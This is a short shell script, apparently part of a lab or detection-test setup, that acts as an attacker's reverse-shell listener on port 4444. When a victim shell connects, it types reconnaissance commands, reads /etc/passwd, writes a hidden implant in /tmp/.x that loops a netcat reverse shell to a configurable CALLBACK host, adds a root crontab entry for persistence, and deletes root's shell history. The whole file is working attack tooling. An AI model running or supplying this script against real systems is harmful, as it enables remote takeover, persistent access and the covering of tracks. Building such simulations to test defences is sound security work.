#!/bin/sh
# The attacker's reverse-shell listener on port 4444 (by default in the victim's network
# namespace, called back on 127.0.0.1; CALLBACK is the address the implant is to call).
# When the victim's shell calls back it types, one second apart: a look around, a dropped
# implant in a hidden /tmp directory, a root crontab entry that restarts it, and the
# deletion of root's shell history; then it keeps the shell open.
commands() {
  sleep 1
  echo 'id; uname -a'
  sleep 1
  echo 'cat /etc/passwd'
  sleep 1
  echo 'mkdir -p /tmp/.x'
  # shellcheck disable=SC2028 # typed into the victim's shell as it is
  echo 'printf "#!/bin/sh\nwhile :; do nc '"${CALLBACK:-127.0.0.1}"' 4444 -e /bin/sh; sleep 60; done\n" > /tmp/.x/agent.sh; chmod 755 /tmp/.x/agent.sh'
  sleep 1
  echo 'mkdir -p /var/spool/cron/crontabs; echo "*/5 * * * * /tmp/.x/agent.sh" > /var/spool/cron/crontabs/root'
  sleep 1
  echo 'rm -f /root/.ash_history; unset HISTFILE'
  sleep 1
  echo 'echo attack-done'
  exec sleep 100000
}
commands | nc -l -p 4444
